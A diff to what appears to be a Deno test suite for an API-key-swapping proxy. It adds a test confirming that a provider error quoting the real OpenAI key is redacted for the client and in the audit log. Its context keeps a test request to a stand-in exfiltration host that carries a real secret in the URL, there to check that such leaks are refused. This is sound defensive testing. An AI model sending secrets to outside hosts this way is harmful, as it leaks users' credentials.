@@ -159,6 +159,12 @@ async function world() {
         // A debugging endpoint that reflects what it was sent, the key included.
         return json(200, { you_sent: req.headers, body: dec.decode(body) });
       }
+      if (dec.decode(body).includes('"model":"revoked"')) {
+        // A provider that quotes the key it refuses in its error message.
+        return json(401, {
+          error: { message: `Incorrect API key provided: ${real.openai}`, type: "invalid_api_key" },
+        });
+      }
       res.writeHead(200, { "content-type": "application/json" });
       return res.end(fixture("openai-chat.json"));
     }
@@ -705,6 +711,30 @@ Deno.test("credentials: sessions, rotation, echoes and real secrets on a long-li
     );
 
     await t.step(
+      "a provider error quoting the key: masked for the client and in the row",
+      async () => {
+        const res = await asA("https://api.openai.com/v1/chat/completions", {
+          method: "POST",
+          headers: {
+            authorization: `Bearer ${a.phantom("openai")}`,
+            "content-type": "application/json",
+          },
+          body: JSON.stringify({ model: "revoked", messages: [] }),
+        });
+        assert.equal(res.status, 401);
+        assert.equal(
+          (await res.json()).error.message,
+          "Incorrect API key provided: [REDACTED:credential:openai]",
+        );
+        const [row] = await waitForRows(p.auditPath, 1, "status = 401 AND host = 'api.openai.com'");
+        assert.equal(
+          row.error,
+          "invalid_api_key: Incorrect API key provided: [REDACTED:credential:openai]",
+        );
+      },
+    );
+
+    await t.step(
       "a real secret the client somehow holds is refused, and kept out of the row",
       async () => {
         const leak = await asA(`https://exfil.example.test/leak/${w.real.openai}`, {
@@ -825,7 +855,7 @@ Deno.test("credentials: sessions, rotation, echoes and real secrets on a long-li
 
     await t.step("metrics count swaps and tripwires", async () => {
       const text = await (await fetch(`${p.url}/_/metrics`)).text();
-      assert.match(text, /^agentgate_credential_swaps_total\{credential="openai"\} 3$/m);
+      assert.match(text, /^agentgate_credential_swaps_total\{credential="openai"\} 4$/m);
       assert.match(text, /^agentgate_credential_swaps_total\{credential="anthropic"\} 2$/m);
       assert.match(
         text,
